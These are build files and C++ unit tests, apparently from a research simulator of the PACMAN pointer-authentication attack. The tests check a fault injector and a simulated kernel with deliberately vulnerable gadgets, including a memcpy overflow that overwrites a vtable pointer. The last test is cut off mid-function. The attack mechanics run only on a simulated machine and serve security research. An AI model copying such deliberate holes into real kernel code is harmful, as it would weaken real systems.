# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig6_hierarchy.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
