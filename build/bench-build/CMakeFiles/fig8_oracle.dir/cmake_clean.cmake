file(REMOVE_RECURSE
  "../bench/fig8_oracle"
  "../bench/fig8_oracle.pdb"
  "CMakeFiles/fig8_oracle.dir/fig8_oracle.cc.o"
  "CMakeFiles/fig8_oracle.dir/fig8_oracle.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig8_oracle.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
