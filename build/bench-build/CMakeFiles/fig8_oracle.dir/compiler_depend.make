# Empty compiler generated dependencies file for fig8_oracle.
# This may be replaced when dependencies are built.
