# Empty dependencies file for fig5_tlb_reveng.
# This may be replaced when dependencies are built.
