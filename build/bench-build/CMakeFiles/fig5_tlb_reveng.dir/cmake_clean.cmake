file(REMOVE_RECURSE
  "../bench/fig5_tlb_reveng"
  "../bench/fig5_tlb_reveng.pdb"
  "CMakeFiles/fig5_tlb_reveng.dir/fig5_tlb_reveng.cc.o"
  "CMakeFiles/fig5_tlb_reveng.dir/fig5_tlb_reveng.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig5_tlb_reveng.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
