file(REMOVE_RECURSE
  "../bench/micro_sim_perf"
  "../bench/micro_sim_perf.pdb"
  "CMakeFiles/micro_sim_perf.dir/micro_sim_perf.cc.o"
  "CMakeFiles/micro_sim_perf.dir/micro_sim_perf.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/micro_sim_perf.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
