file(REMOVE_RECURSE
  "../bench/sec9_mitigations"
  "../bench/sec9_mitigations.pdb"
  "CMakeFiles/sec9_mitigations.dir/sec9_mitigations.cc.o"
  "CMakeFiles/sec9_mitigations.dir/sec9_mitigations.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sec9_mitigations.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
