# Empty dependencies file for sec43_gadget_scan.
# This may be replaced when dependencies are built.
