file(REMOVE_RECURSE
  "../bench/sec43_gadget_scan"
  "../bench/sec43_gadget_scan.pdb"
  "CMakeFiles/sec43_gadget_scan.dir/sec43_gadget_scan.cc.o"
  "CMakeFiles/sec43_gadget_scan.dir/sec43_gadget_scan.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sec43_gadget_scan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
