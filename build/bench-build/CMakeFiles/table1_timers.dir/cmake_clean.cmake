file(REMOVE_RECURSE
  "../bench/table1_timers"
  "../bench/table1_timers.pdb"
  "CMakeFiles/table1_timers.dir/table1_timers.cc.o"
  "CMakeFiles/table1_timers.dir/table1_timers.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_timers.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
