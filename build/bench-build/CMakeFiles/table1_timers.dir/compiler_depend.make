# Empty compiler generated dependencies file for table1_timers.
# This may be replaced when dependencies are built.
