# Empty dependencies file for fig9_jump2win.
# This may be replaced when dependencies are built.
