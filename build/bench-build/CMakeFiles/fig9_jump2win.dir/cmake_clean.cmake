file(REMOVE_RECURSE
  "../bench/fig9_jump2win"
  "../bench/fig9_jump2win.pdb"
  "CMakeFiles/fig9_jump2win.dir/fig9_jump2win.cc.o"
  "CMakeFiles/fig9_jump2win.dir/fig9_jump2win.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig9_jump2win.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
