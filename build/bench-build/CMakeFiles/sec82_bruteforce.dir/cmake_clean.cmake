file(REMOVE_RECURSE
  "../bench/sec82_bruteforce"
  "../bench/sec82_bruteforce.pdb"
  "CMakeFiles/sec82_bruteforce.dir/sec82_bruteforce.cc.o"
  "CMakeFiles/sec82_bruteforce.dir/sec82_bruteforce.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sec82_bruteforce.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
