# Empty dependencies file for sec82_bruteforce.
# This may be replaced when dependencies are built.
