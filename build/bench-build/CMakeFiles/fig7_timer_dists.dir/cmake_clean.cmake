file(REMOVE_RECURSE
  "../bench/fig7_timer_dists"
  "../bench/fig7_timer_dists.pdb"
  "CMakeFiles/fig7_timer_dists.dir/fig7_timer_dists.cc.o"
  "CMakeFiles/fig7_timer_dists.dir/fig7_timer_dists.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig7_timer_dists.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
