# Empty compiler generated dependencies file for fig7_timer_dists.
# This may be replaced when dependencies are built.
