file(REMOVE_RECURSE
  "CMakeFiles/test_isa.dir/isa/test_disasm.cc.o"
  "CMakeFiles/test_isa.dir/isa/test_disasm.cc.o.d"
  "CMakeFiles/test_isa.dir/isa/test_encoding.cc.o"
  "CMakeFiles/test_isa.dir/isa/test_encoding.cc.o.d"
  "CMakeFiles/test_isa.dir/isa/test_encoding_prop.cc.o"
  "CMakeFiles/test_isa.dir/isa/test_encoding_prop.cc.o.d"
  "CMakeFiles/test_isa.dir/isa/test_inst.cc.o"
  "CMakeFiles/test_isa.dir/isa/test_inst.cc.o.d"
  "CMakeFiles/test_isa.dir/isa/test_pointer.cc.o"
  "CMakeFiles/test_isa.dir/isa/test_pointer.cc.o.d"
  "test_isa"
  "test_isa.pdb"
  "test_isa[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_isa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
