
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/isa/test_disasm.cc" "tests/CMakeFiles/test_isa.dir/isa/test_disasm.cc.o" "gcc" "tests/CMakeFiles/test_isa.dir/isa/test_disasm.cc.o.d"
  "/root/repo/tests/isa/test_encoding.cc" "tests/CMakeFiles/test_isa.dir/isa/test_encoding.cc.o" "gcc" "tests/CMakeFiles/test_isa.dir/isa/test_encoding.cc.o.d"
  "/root/repo/tests/isa/test_encoding_prop.cc" "tests/CMakeFiles/test_isa.dir/isa/test_encoding_prop.cc.o" "gcc" "tests/CMakeFiles/test_isa.dir/isa/test_encoding_prop.cc.o.d"
  "/root/repo/tests/isa/test_inst.cc" "tests/CMakeFiles/test_isa.dir/isa/test_inst.cc.o" "gcc" "tests/CMakeFiles/test_isa.dir/isa/test_inst.cc.o.d"
  "/root/repo/tests/isa/test_pointer.cc" "tests/CMakeFiles/test_isa.dir/isa/test_pointer.cc.o" "gcc" "tests/CMakeFiles/test_isa.dir/isa/test_pointer.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/attack/CMakeFiles/pacman_attack.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/pacman_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/kernel/CMakeFiles/pacman_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/cpu/CMakeFiles/pacman_cpu.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pacman_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/pacman_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pacman_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/pacman_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/base/CMakeFiles/pacman_base.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
