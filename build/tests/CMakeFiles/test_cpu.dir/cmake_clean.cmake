file(REMOVE_RECURSE
  "CMakeFiles/test_cpu.dir/cpu/test_authbranch.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_authbranch.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_core_basic.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_core_basic.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_core_fpac.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_core_fpac.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_core_spec.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_core_spec.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_predictor.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_predictor.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_timers.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_timers.cc.o.d"
  "CMakeFiles/test_cpu.dir/cpu/test_tracer.cc.o"
  "CMakeFiles/test_cpu.dir/cpu/test_tracer.cc.o.d"
  "test_cpu"
  "test_cpu.pdb"
  "test_cpu[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_cpu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
