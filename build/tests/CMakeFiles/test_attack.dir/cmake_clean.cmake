file(REMOVE_RECURSE
  "CMakeFiles/test_attack.dir/attack/test_evfinder.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_evfinder.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_eviction.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_eviction.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_jump2win.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_jump2win.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_oracle.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_oracle.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_oracle_prop.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_oracle_prop.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_ret2win.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_ret2win.cc.o.d"
  "CMakeFiles/test_attack.dir/attack/test_reveng.cc.o"
  "CMakeFiles/test_attack.dir/attack/test_reveng.cc.o.d"
  "test_attack"
  "test_attack.pdb"
  "test_attack[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
