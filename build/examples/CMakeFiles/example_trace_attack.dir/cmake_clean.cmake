file(REMOVE_RECURSE
  "CMakeFiles/example_trace_attack.dir/trace_attack.cpp.o"
  "CMakeFiles/example_trace_attack.dir/trace_attack.cpp.o.d"
  "example_trace_attack"
  "example_trace_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_trace_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
