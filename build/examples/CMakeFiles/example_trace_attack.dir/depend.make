# Empty dependencies file for example_trace_attack.
# This may be replaced when dependencies are built.
