# Empty dependencies file for example_pac_oracle_demo.
# This may be replaced when dependencies are built.
