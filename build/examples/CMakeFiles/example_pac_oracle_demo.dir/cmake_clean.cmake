file(REMOVE_RECURSE
  "CMakeFiles/example_pac_oracle_demo.dir/pac_oracle_demo.cpp.o"
  "CMakeFiles/example_pac_oracle_demo.dir/pac_oracle_demo.cpp.o.d"
  "example_pac_oracle_demo"
  "example_pac_oracle_demo.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_pac_oracle_demo.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
