# Empty compiler generated dependencies file for example_tlb_reverse_engineer.
# This may be replaced when dependencies are built.
