file(REMOVE_RECURSE
  "CMakeFiles/example_tlb_reverse_engineer.dir/tlb_reverse_engineer.cpp.o"
  "CMakeFiles/example_tlb_reverse_engineer.dir/tlb_reverse_engineer.cpp.o.d"
  "example_tlb_reverse_engineer"
  "example_tlb_reverse_engineer.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_tlb_reverse_engineer.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
