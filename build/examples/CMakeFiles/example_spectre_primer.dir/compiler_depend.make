# Empty compiler generated dependencies file for example_spectre_primer.
# This may be replaced when dependencies are built.
