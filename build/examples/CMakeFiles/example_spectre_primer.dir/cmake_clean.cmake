file(REMOVE_RECURSE
  "CMakeFiles/example_spectre_primer.dir/spectre_primer.cpp.o"
  "CMakeFiles/example_spectre_primer.dir/spectre_primer.cpp.o.d"
  "example_spectre_primer"
  "example_spectre_primer.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_spectre_primer.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
