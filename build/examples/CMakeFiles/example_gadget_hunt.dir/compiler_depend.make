# Empty compiler generated dependencies file for example_gadget_hunt.
# This may be replaced when dependencies are built.
