file(REMOVE_RECURSE
  "CMakeFiles/example_gadget_hunt.dir/gadget_hunt.cpp.o"
  "CMakeFiles/example_gadget_hunt.dir/gadget_hunt.cpp.o.d"
  "example_gadget_hunt"
  "example_gadget_hunt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_gadget_hunt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
