#include <gtest/gtest.h>

#include <cmath>
#include <stdexcept>

#include "kernel/layout.hh"
#include "sim/faults.hh"

namespace pacman
{
namespace
{

using namespace pacman::kernel;
using namespace pacman::sim;

Machine
makeMachine()
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = 42;
    return Machine(cfg);
}

/** Rate-1 plan for one event type, everything else off. */
FaultPlan
onlyEvent(double FaultPlan::*rate)
{
    FaultPlan plan;
    plan.*rate = 1.0;
    return plan;
}

TEST(FaultPlan, ScaledZeroIsDisabled)
{
    EXPECT_FALSE(FaultPlan{}.enabled());
    EXPECT_FALSE(FaultPlan::scaled(0.0).enabled());
    EXPECT_TRUE(FaultPlan::scaled(0.1).enabled());
}

TEST(FaultPlan, ValidateRejectsMalformedRates)
{
    EXPECT_NO_THROW(FaultPlan{}.validate());
    EXPECT_NO_THROW(FaultPlan::scaled(1.0).validate());

    FaultPlan nan_rate;
    nan_rate.preemptRate = std::nan("");
    EXPECT_THROW(nan_rate.validate(), std::invalid_argument);

    FaultPlan over_one;
    over_one.hangRate = 1.5;
    EXPECT_THROW(over_one.validate(), std::invalid_argument);

    FaultPlan negative;
    negative.timerRate = -0.1;
    EXPECT_THROW(negative.validate(), std::invalid_argument);
}

TEST(FaultPlan, ValidateChecksBurstShapesOnlyWhenEventEnabled)
{
    // Nonsense shape parameters for a disabled event must not reject
    // the plan; enabling the event makes them fatal.
    FaultPlan plan;
    plan.preemptMinCycles = 100;
    plan.preemptMaxCycles = 1; // inverted
    EXPECT_NO_THROW(plan.validate());
    plan.preemptRate = 0.5;
    EXPECT_THROW(plan.validate(), std::invalid_argument);

    FaultPlan wedge;
    wedge.hangCycles = 0; // a zero-length wedge is no wedge
    EXPECT_NO_THROW(wedge.validate());
    wedge.hangRate = 0.1;
    EXPECT_THROW(wedge.validate(), std::invalid_argument);
}

TEST(FaultInjector, ConstructionRejectsMalformedPlan)
{
    Machine machine = makeMachine();
    FaultPlan bad;
    bad.migrationRate = 7.0;
    EXPECT_THROW(FaultInjector(machine, bad, 1),
                 std::invalid_argument);
}

TEST(FaultInjector, WedgeBurnsHangCyclesDeterministically)
{
    Machine machine = makeMachine();
    const uint64_t before = machine.core().cycle();

    FaultPlan plan = onlyEvent(&FaultPlan::hangRate);
    plan.hangCycles = 1ull << 20;
    FaultInjector injector(machine, plan, 1);
    injector.onOpportunity();

    // The wedge burns simulated time only — identical on every host,
    // which is what makes Hang classifications deterministic.
    EXPECT_EQ(injector.stats().hangs, 1u);
    EXPECT_EQ(machine.core().cycle() - before, plan.hangCycles);
}

TEST(FaultStats, TotalAndMergeSumEventCounts)
{
    FaultStats a;
    a.contextSwitches = 2;
    a.preemptions = 3;
    a.busyArms = 1;
    FaultStats b;
    b.timerStalls = 4;
    b.migrations = 5;
    b.hangs = 6;
    a.merge(b);
    EXPECT_EQ(a.total(), 21u);
    EXPECT_EQ(a.contextSwitches, 2u);
    EXPECT_EQ(a.timerStalls, 4u);
    EXPECT_EQ(a.hangs, 6u);
}

TEST(FaultInjector, DisabledPlanRealizesNothing)
{
    Machine machine = makeMachine();
    FaultInjector injector(machine, FaultPlan{}, 1);
    for (int i = 0; i < 100; ++i)
        injector.onOpportunity();
    EXPECT_EQ(injector.opportunities(), 100u);
    EXPECT_EQ(injector.stats().total(), 0u);
}

TEST(FaultInjector, FullContextSwitchFlushesUserNotKernel)
{
    Machine machine = makeMachine();
    auto &dtlb = machine.mem().dtlb();
    dtlb.insert({.vpn = 0x11, .asid = mem::Asid::User, .ppn = 1});
    dtlb.insert({.vpn = 0x22, .asid = mem::Asid::Kernel, .ppn = 2});

    FaultPlan plan = onlyEvent(&FaultPlan::contextSwitchRate);
    plan.fullFlushFraction = 1.0; // always the full EL0 flush
    plan.pollutePages = 0;
    FaultInjector injector(machine, plan, 1);
    injector.onOpportunity();

    EXPECT_EQ(injector.stats().contextSwitches, 1u);
    EXPECT_EQ(injector.stats().fullFlushes, 1u);
    EXPECT_FALSE(dtlb.contains(0x11, mem::Asid::User));
    EXPECT_TRUE(dtlb.contains(0x22, mem::Asid::Kernel));
}

TEST(FaultInjector, PreemptionBurnsCycles)
{
    Machine machine = makeMachine();
    const uint64_t before = machine.core().cycle();

    FaultPlan plan = onlyEvent(&FaultPlan::preemptRate);
    plan.preemptPollutePages = 0;
    FaultInjector injector(machine, plan, 1);
    injector.onOpportunity();

    EXPECT_EQ(injector.stats().preemptions, 1u);
    const uint64_t burned = machine.core().cycle() - before;
    EXPECT_GE(burned, plan.preemptMinCycles);
    EXPECT_LE(burned, plan.preemptMaxCycles);
    EXPECT_EQ(injector.stats().preemptedCycles, burned);
}

TEST(FaultInjector, BusyArmMakesGadgetSyscallsTransientlyFail)
{
    Machine machine = makeMachine();
    FaultPlan plan = onlyEvent(&FaultPlan::syscallBusyRate);
    plan.busyMinCount = plan.busyMaxCount = 2;
    FaultInjector injector(machine, plan, 1);
    injector.onOpportunity();

    EXPECT_EQ(injector.stats().busyArms, 1u);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().busySlot()),
              2u);
}

TEST(FaultInjector, MigrationSwapsLatencyAndTimerRate)
{
    Machine machine = makeMachine();
    const auto pcore_lat = machine.mem().config().lat;
    const uint64_t pcore_rate = machine.timer().ratePer1k();

    FaultPlan plan = onlyEvent(&FaultPlan::migrationRate);
    plan.migrationReturnRate = 0.0; // stay on the e-core
    FaultInjector injector(machine, plan, 1);
    injector.onOpportunity();

    EXPECT_TRUE(machine.onECore());
    EXPECT_EQ(injector.stats().migrations, 1u);
    EXPECT_GT(machine.mem().config().lat.l1Hit, pcore_lat.l1Hit);
    EXPECT_GT(machine.timer().ratePer1k(), pcore_rate);

    // And back: latencies and throughput restore exactly.
    machine.migrateCore(false);
    EXPECT_FALSE(machine.onECore());
    EXPECT_EQ(machine.mem().config().lat.l1Hit, pcore_lat.l1Hit);
    EXPECT_EQ(machine.timer().ratePer1k(), pcore_rate);
}

TEST(FaultInjector, TimerEventsDisturbTheCounter)
{
    Machine machine = makeMachine();
    FaultPlan plan = onlyEvent(&FaultPlan::timerRate);
    FaultInjector injector(machine, plan, 1);
    for (int i = 0; i < 30; ++i)
        injector.onOpportunity();
    const FaultStats &s = injector.stats();
    EXPECT_EQ(s.timerStalls + s.timerSkews + s.jitterBursts, 30u);
    // All three variants should show up over 30 draws.
    EXPECT_GT(s.timerStalls, 0u);
    EXPECT_GT(s.timerSkews, 0u);
    EXPECT_GT(s.jitterBursts, 0u);
}

TEST(FaultInjector, SameSeedRealizesIdenticalFaultSequences)
{
    Machine a = makeMachine();
    Machine b = makeMachine();
    const FaultPlan plan = FaultPlan::scaled(0.5);
    FaultInjector ia(a, plan, 99);
    FaultInjector ib(b, plan, 99);
    for (int i = 0; i < 200; ++i) {
        ia.onOpportunity();
        ib.onOpportunity();
    }
    EXPECT_GT(ia.stats().total(), 0u);
    EXPECT_EQ(ia.stats().total(), ib.stats().total());
    EXPECT_EQ(ia.stats().contextSwitches, ib.stats().contextSwitches);
    EXPECT_EQ(ia.stats().preemptions, ib.stats().preemptions);
    EXPECT_EQ(ia.stats().preemptedCycles, ib.stats().preemptedCycles);
    EXPECT_EQ(ia.stats().busyArms, ib.stats().busyArms);
    EXPECT_EQ(ia.stats().migrations, ib.stats().migrations);
    // Machine-visible state diverges identically too.
    EXPECT_EQ(a.core().cycle(), b.core().cycle());
    EXPECT_EQ(a.onECore(), b.onECore());
    EXPECT_EQ(a.timer().rateScalePermille(),
              b.timer().rateScalePermille());
}

TEST(FaultInjector, AttachReceivesOpportunitiesFromInjectNoise)
{
    Machine machine = makeMachine();
    FaultInjector injector(machine, FaultPlan{}, 1);

    machine.injectNoise(); // not attached yet: no opportunity
    EXPECT_EQ(injector.opportunities(), 0u);

    injector.attach();
    machine.injectNoise();
    machine.injectNoise();
    EXPECT_EQ(injector.opportunities(), 2u);

    injector.detach();
    machine.injectNoise();
    EXPECT_EQ(injector.opportunities(), 2u);
}

TEST(FaultInjector, DestructorDetachesHook)
{
    Machine machine = makeMachine();
    {
        FaultInjector injector(machine, FaultPlan{}, 1);
        injector.attach();
    }
    machine.injectNoise(); // must not call into the dead injector
}

} // namespace
} // namespace pacman
