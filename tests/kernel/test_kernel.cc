#include <gtest/gtest.h>

#include "analysis/scanner.hh"
#include "attack/runtime.hh"
#include "kernel/layout.hh"
#include "kernel/machine.hh"

namespace pacman::kernel
{
namespace
{

using attack::AttackerProcess;

class KernelTest : public ::testing::Test
{
  protected:
    KernelTest()
        : machine(defaultMachineConfig()), proc(machine)
    {
    }

    Machine machine;
    AttackerProcess proc;
};

TEST_F(KernelTest, BootGeneratesDistinctKeys)
{
    const auto ia = machine.kernel().key(crypto::PacKeySelect::IA);
    const auto da = machine.kernel().key(crypto::PacKeySelect::DA);
    EXPECT_NE(ia, da);
    EXPECT_NE(ia.w0, 0u);
    EXPECT_NE(ia.k0, 0u);
}

TEST_F(KernelTest, RebootRekeys)
{
    MachineConfig cfg = defaultMachineConfig();
    cfg.seed = 99;
    Machine other(cfg);
    EXPECT_NE(machine.kernel().key(crypto::PacKeySelect::IA),
              other.kernel().key(crypto::PacKeySelect::IA));
}

TEST_F(KernelTest, NopSyscallRoundTrips)
{
    proc.syscall(SYS_NOP);
    EXPECT_EQ(machine.core().el(), 0u);
    EXPECT_EQ(machine.core().stats().syscalls, 1u);
}

TEST_F(KernelTest, CondAndModifierSlots)
{
    proc.syscall(SYS_SET_COND, 1);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().condSlot()), 1u);
    proc.syscall(SYS_SET_COND, 0);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().condSlot()), 0u);
    proc.syscall(SYS_SET_MODIFIER, 0xABCD);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().modifierSlot()),
              0xABCDu);
}

TEST_F(KernelTest, LegitPointersVerify)
{
    proc.syscall(SYS_SET_MODIFIER, 0x1234);
    const uint64_t data_ptr = proc.syscall(SYS_GET_LEGIT_DATA);
    const auto &kern = machine.kernel();
    EXPECT_EQ(isa::stripPac(data_ptr), kern.benignData());
    EXPECT_EQ(isa::extPart(data_ptr),
              kern.truePac(kern.benignData(), 0x1234,
                           crypto::PacKeySelect::DA));

    const uint64_t inst_ptr = proc.syscall(SYS_GET_LEGIT_INST);
    EXPECT_EQ(isa::stripPac(inst_ptr), kern.benignFn());
    EXPECT_EQ(isa::extPart(inst_ptr),
              kern.truePac(kern.benignFn(), 0x1234,
                           crypto::PacKeySelect::IA));
}

TEST_F(KernelTest, DataGadgetArchitecturalPathSafeWhenCondZero)
{
    // With cond = 0 the gadget body is skipped: even a garbage
    // pointer cannot crash the kernel.
    proc.syscall(SYS_SET_COND, 0);
    proc.syscall(SYS_GADGET_DATA, 0xDEADBEEFDEADBEEFull);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, DataGadgetDereferencesWhenCondSet)
{
    // With cond = 1 and a *valid* signed pointer the body executes
    // and returns cleanly.
    proc.syscall(SYS_SET_MODIFIER, 0);
    proc.syscall(SYS_SET_COND, 1);
    const uint64_t legit = proc.syscall(SYS_GET_LEGIT_DATA);
    proc.syscall(SYS_GADGET_DATA, legit);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, DataGadgetPanicsOnWrongPacWhenArmed)
{
    // The security-by-crash behaviour PA relies on: architecturally
    // using a wrong PAC kills the kernel.
    proc.syscall(SYS_SET_MODIFIER, 0);
    proc.syscall(SYS_SET_COND, 1);
    const uint64_t bogus =
        isa::withExt(machine.kernel().benignData(), 0x1111);
    machine.core().setReg(isa::X16, SYS_GADGET_DATA);
    machine.core().setReg(isa::X0, bogus);
    // Reuse the raw runtime path: invoke the syscall routine and
    // expect a panic instead of a clean halt.
    const auto status = machine.runGuest(
        isa::Addr(kernel::UserCodeBase), {bogus});
    EXPECT_EQ(status.kind, cpu::ExitKind::KernelPanic);
}

TEST_F(KernelTest, InstGadgetRunsWithLegitPointer)
{
    proc.syscall(SYS_SET_MODIFIER, 0);
    proc.syscall(SYS_SET_COND, 1);
    const uint64_t legit = proc.syscall(SYS_GET_LEGIT_INST);
    proc.syscall(SYS_GADGET_INST, legit);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, TrampolineFetchReturns)
{
    for (uint64_t idx : {0ull, 17ull, 255ull})
        proc.syscall(SYS_FETCH_TRAMP, idx);
    EXPECT_EQ(machine.core().el(), 0u);
}

TEST_F(KernelTest, TrampolineFetchFillsKernelItlb)
{
    const uint64_t idx = 17;
    const Addr page = TrampolineBase + idx * isa::PageSize;
    proc.syscall(SYS_FETCH_TRAMP, idx);
    EXPECT_TRUE(machine.mem().itlb(1).contains(
        isa::pageNumber(isa::vaPart(page)), mem::Asid::Kernel));
    // And not the user iTLB: the structures are split (Figure 6).
    EXPECT_FALSE(machine.mem().itlb(0).contains(
        isa::pageNumber(isa::vaPart(page)), mem::Asid::Kernel));
}

TEST_F(KernelTest, CacheConfigSyscallReportsArchitecturalGeometry)
{
    // CSSELR 0 = L1D: the paper's Table 2 reads 8 ways x 256 sets.
    const uint64_t ccsidr = proc.syscall(SYS_READ_CACHE_CFG, 0);
    const unsigned line = 1u << ((ccsidr & 7) + 4);
    const unsigned ways = unsigned((ccsidr >> 3) & 0x3FF) + 1;
    const unsigned sets = unsigned((ccsidr >> 13) & 0x7FFF) + 1;
    EXPECT_EQ(line, 64u);
    EXPECT_EQ(ways, 8u);
    EXPECT_EQ(sets, 256u);
}

TEST_F(KernelTest, EnablePmcGrantsEl0Reads)
{
    uint64_t value = 0;
    auto status = proc.tryReadPmc0(&value);
    EXPECT_EQ(status.kind, cpu::ExitKind::CrashEl0);
    proc.syscall(SYS_ENABLE_PMC_EL0);
    status = proc.tryReadPmc0(&value);
    EXPECT_EQ(status.kind, cpu::ExitKind::Halted);
    EXPECT_GT(value, 0u);
}

TEST_F(KernelTest, Jump2WinObjectsVerify)
{
    const auto &kern = machine.kernel();
    const uint64_t vptr = machine.mem().readVirt64(kern.object2());
    EXPECT_EQ(isa::stripPac(vptr), kern.vtable());
    // The stored pointer carries the correct DA PAC.
    EXPECT_EQ(isa::extPart(vptr),
              kern.truePac(kern.vtable(), kern.object2(),
                           crypto::PacKeySelect::DA));
}

TEST_F(KernelTest, Jump2WinBenignDispatchWorks)
{
    proc.syscall(SYS_J2W_CALL);
    EXPECT_EQ(machine.core().el(), 0u);
    EXPECT_FALSE(machine.kernel().winTriggered());
}

TEST_F(KernelTest, Jump2WinMemcpyOverflows)
{
    // In-bounds copy touches only the buffer.
    const Addr payload = proc.scratchPage(5);
    machine.mem().writeVirt64(payload, 0x4242424242424242ull);
    proc.syscall(SYS_J2W_MEMCPY, payload, 8);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().object1Buf()),
              0x4242424242424242ull);
    // Out-of-bounds length clobbers object2's vtable pointer.
    for (unsigned i = 0; i < 4; ++i)
        machine.mem().writeVirt64(payload + 8 * i, 0x4343434343434343ull);
    proc.syscall(SYS_J2W_MEMCPY, payload, 32);
    EXPECT_EQ(machine.mem().readVirt64(machine.kernel().object2()),
              0x4343434343434343ull);
}

TEST_F(KernelTest, Jump2WinCorruptedDispatchPanics)
{
    const Addr payload = proc.scratchPage(5);
    for (unsigned i = 0; i < 4; ++i)
        machine.mem().writeVirt64(payload + 8 * i, 0x4343434343434343ull);
    proc.syscall(SYS_J2W_MEMCPY, payload, 32);
    machine.core().setReg(isa::X16, SYS_J2W_CALL);
    const auto status = machine.runGuest(UserCodeBase + 0, {});
    EXPECT_EQ(status.kind, cpu::ExitKind::KernelPanic);
}

TEST_F(KernelTest, WinFlagLifecycle)
{
    EXPECT_FALSE(machine.kernel().winTriggered());
